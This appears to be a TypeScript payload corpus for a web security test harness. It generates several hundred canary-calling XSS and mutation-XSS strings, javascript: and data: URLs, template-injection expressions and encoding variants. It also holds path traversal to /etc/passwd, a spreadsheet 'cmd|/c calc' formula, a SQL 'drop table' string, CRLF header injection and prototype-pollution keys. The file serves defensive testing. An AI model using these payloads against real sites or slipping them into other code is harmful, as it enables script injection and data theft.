import { CANARY } from '../visit.ts';

/** The host to which payloads call home; the browser is led to a sink for it. */
const HOME = 'https://home.example.org';

let count = 0;

/** A call that tells that foreign script ran, with a number to find its payload by. */
function call(): string {
  count++;
  return `${CANARY}(${count})`;
}

/** Elements that load, play, open or animate something, with an event that needs nobody's help. */
const selfStarting: readonly (readonly [before: string, handler: string, after: string])[] = [
  ['<img src=x ', 'onerror', '>'],
  ['<img src=data:, ', 'onerror', '>'],
  [`<img src=${HOME}/i.png `, 'onload', '>'],
  ['<svg ', 'onload', '>'],
  ['<svg><animate attributeName=x dur=1s ', 'onbegin', '></svg>'],
  ['<svg><set attributeName=x ', 'onbegin', '></svg>'],
  ['<svg><image href=x ', 'onerror', '></svg>'],
  ['<body ', 'onload', '>'],
  ['<body ', 'onpageshow', '>'],
  [`<iframe src=${HOME} `, 'onload', '></iframe>'],
  ['<video><source ', 'onerror', '></video>'],
  ['<audio src=x ', 'onerror', '></audio>'],
  ['<object data=x ', 'onerror', '></object>'],
  [`<embed src=${HOME} `, 'onload', '>'],
  [`<link rel=stylesheet href=${HOME}/s.css `, 'onload', '>'],
  [`<script src=${HOME}/s.js `, 'onerror', '></script>'],
  ['<details open ', 'ontoggle', '><summary>x</summary></details>'],
  ['<input autofocus ', 'onfocus', '>'],
  ['<select autofocus ', 'onfocus', '></select>'],
  ['<textarea autofocus ', 'onfocus', '></textarea>'],
  ['<p tabindex=0 autofocus ', 'onfocus', '>x</p>'],
  ['<marquee ', 'onstart', '>x</marquee>'],
  ['<style>@keyframes k{}</style><p style="animation-name:k" ', 'onanimationstart', '>x</p>'],
  ['<dialog open ', 'onbeforetoggle', '>x</dialog>'],
];

/** The ways in which a handler can be written down. */
const writings: readonly ((handler: string, script: string) => string)[] = [
  (handler, script) => `${handler}=${script}`,
  (handler, script) => `${handler}="${script}"`,
  (handler, script) => `${handler.toUpperCase()} = '${script}'`,
  (handler, script) => `/${handler}\n=\t"${[...script].map((letter) => `&#${letter.charCodeAt(0)};`).join('')}"`,
];

/** What ends the element, the attribute or the section in which a text might stand. */
const endings = [
  '"',
  "'",
  '>',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</pre>',
  '</script>',
  '</style>',
  '</samp>',
  '</dd>',
  '</template>',
  '</noscript>',
  '</option></select>',
  '-->',
  ']]>',
  '*/',
  '`',
  '\\"',
  '</a>',
];

/** Markup that changes its sense when it is parsed twice (mXSS). */
const mutating: readonly ((markup: string) => string)[] = [
  (markup) => `<svg></p><style><a id="</style>${markup}">`,
  (markup) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
  (markup) => `<form><math><mtext></form><form><mglyph><style></math>${markup}`,
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<svg><desc><noscript>&lt;/noscript&gt;${markup}</desc></svg>`,
  (markup) => `<select><template><style><!--</style><a rel="--></style></template></select>${markup}">`,
  (markup) => `<math><annotation-xml encoding="text/html">${markup}</annotation-xml></math>`,
  (markup) => `<svg><foreignObject>${markup}</foreignObject></svg>`,
  (markup) => `<xmp><p title="</xmp>${markup}">`,
  (markup) => `<a title="${'x'.repeat(300)}</a>${markup}">`,
  (markup) => `<![CDATA[>${markup}]]>`,
  (markup) => `<?xml version="1.0"?>${markup}`,
  (markup) => `<!--><p>${markup}-->`,
];

/** Addresses that run something, or lead away without being asked. */
function addresses(): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    'javascript://%0A',
    'vbscript:',
    'view-source:javascript:',
  ];
  const links = schemes.flatMap((scheme) => [`<a href="${scheme}${call()}">x</a>`, `${scheme}${call()}`]);
  const data = ['data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:application/xhtml+xml,'];
  const frames = data.map((scheme) => {
    const markup = `<script>parent.${call()}</script>`;
    return `<iframe src="${scheme}${scheme.includes('base64') ? Buffer.from(markup).toString('base64') : encodeURIComponent(markup)}"></iframe>`;
  });
  const leading = [
    `<meta http-equiv=refresh content="0;url=${HOME}">`,
    `<base href="${HOME}/">`,
    `<form action="${HOME}" id=f><button form=f formaction="javascript:${call()}">x</button></form>`,
    `<a href="${HOME}" ping="${HOME}/p" autofocus>x</a>`,
    `<object data="javascript:${call()}"></object>`,
    `<iframe srcdoc="<script>parent.${call()}</script>"></iframe>`,
    `<link rel=prefetch href="${HOME}/p"><link rel=dns-prefetch href="${HOME}">`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${call()}</script></svg>#x"/></svg>`,
    `<svg><a xlink:href="javascript:${call()}"><text y=20>x</text></a></svg>`,
  ];
  return [...links, ...frames, ...leading];
}

/** Words of template languages, of scripts in strings, and of what is replaced in texts. */
function templates(): string[] {
  return [
    `{{constructor.constructor('${call()}')()}}`,
    `{{${call()}}}`,
    `\${${call()}}`,
    `#{${call()}}`,
    `<%= ${call()} %>`,
    `[[${call()}]]`,
    `{%raw%}${call()}{%endraw%}`,
    `{{{html}}}<p v-html="'<img src=x onerror=${call()}>'">`,
    `<p ng-app ng-csp>{{$on.constructor('${call()}')()}}</p>`,
    `<p x-data x-init="${call()}">`,
    `<p data-copy="" data-copy-text="x" onclick="${call()}">`,
    `<p dangerouslySetInnerHTML={{__html: "${call()}"}}>`,
    `';${call()};//`,
    `";${call()};//`,
    `\`;${call()};//`,
    `</script><script>${call()}</script>`,
    '$& $1 $` $$ %s %n %d {0}',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    '{"__proto__":{"polluted":true}}',
  ];
}

/** The same markup in writings that some reader undoes once too often. */
function encoded(): string[] {
  const markup = `<script>${call()}</script>`;
  const hex = (text: string): string => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
  return [
    markup,
    `<SCRIPT>${call()}</SCRIPT>`,
    `<script\n>${call()}</script\n>`,
    `<script/x>${call()}</script>`,
    `<scr<script>ipt>${call()}</scr</script>ipt>`,
    `<script type=module>${call()}</script>`,
    markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
    hex(markup),
    encodeURIComponent(markup),
    encodeURIComponent(encodeURIComponent(markup)),
    markup.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    markup.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
    markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    markup.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
    `=?utf-8?B?${Buffer.from(markup).toString('base64')}?=`,
    `=?utf-8?Q?${markup.replaceAll('=', '=3D').replaceAll('<', '=3C').replaceAll('>', '=3E')}?=`,
    `=3Cscript=3E${call()}=3C/script=3E`,
    `\u001b$B<script>${call()}</script>\u001b(B`,
  ];
}

/** Styles that load, hide or lay over. */
const styles = [
  `<style>@import '${HOME}/s.css';</style>`,
  `<style>*{background:url(${HOME}/b.png)}</style>`,
  `}*{background:url(${HOME}/b.png)}`,
  `<p style="background:url(${HOME}/b.png);position:fixed;inset:0;z-index:9999">x</p>`,
  '<p style="width:expression(alert(1))">x</p>',
  '<style>main{display:none}</style>',
  `<font face="x" size=99 color=red>x</font><center>x</center>`,
  `<table background="${HOME}/b.png" width=9999><tr><td>x</table>`,
];

/** Characters that turn, hide, join, ring or break. */
const characters = [
  '\u202egnp.exe',
  '\u2066\u202e\u2069\u2067x',
  '\u200f\u200e\u061cx',
  'abc\u0000def',
  '\u0000<script>',
  '\ufeff\ufffe\uffff',
  '\u2028x\u2029x\u0085x',
  '\u200b\u200c\u200d\u2060x',
  '👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚒'.repeat(20),
  '\u{1f1e6}'.repeat(41),
  'e\u0301\u0327\u0323'.repeat(60),
  `x${'\u0300'.repeat(400)}`,
  'ﷺ'.repeat(60),
  '\u001b[31mred\u001b[0m\u001b[2J\u001b]0;title\u0007',
  `\u001b]8;;${HOME}\u0007link\u001b]8;;\u0007`,
  '\u0007\u0008\u000b\u000c\u007f\u009b31m',
  '\ud800',
  'x\udc00y\ud83d',
  'مرحبا <b>بالعالم</b>',
  'שלום" onmouseover="x',
  '日本語のエラー<br>メール',
  'ＦＵＬＬｗｉｄｔｈ',
  'İıſK',
  'x'.repeat(2_000),
  'мно'.repeat(400),
  '漢'.repeat(500),
  `${'<b>'.repeat(200)}x`,
  `${'('.repeat(300)}${')'.repeat(300)}`,
  '&'.repeat(300),
  '%'.repeat(300),
  `${'a.'.repeat(120)}example.net`,
  `http://${'x'.repeat(400)}.example/`,
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON.eml',
  '=cmd|/c calc!A0',
  '@SUM(1+1)*cmd|x',
  "'; drop table events; --",
  '\r\nSet-Cookie: a=b',
  '%0d%0aLocation: /x',
];

/** Some three hundred texts that were made to break pages; the same ones each time. */
export const payloads: readonly string[] = [
  ...selfStarting.flatMap(([before, handler, after]) =>
    writings.map((write) => `${before}${write(handler, call())}${after}`),
  ),
  ...endings.flatMap((ending) => [
    `${ending}<script>${call()}</script>`,
    `${ending} autofocus onfocus=${call()} x=`,
    `${ending}<svg onload=${call()}>`,
  ]),
  ...mutating.flatMap((mutate) => [mutate(`<img src=x onerror=${call()}>`), mutate(`<script>${call()}</script>`)]),
  ...addresses(),
  ...templates(),
  ...encoded(),
  ...styles,
  ...characters,
];
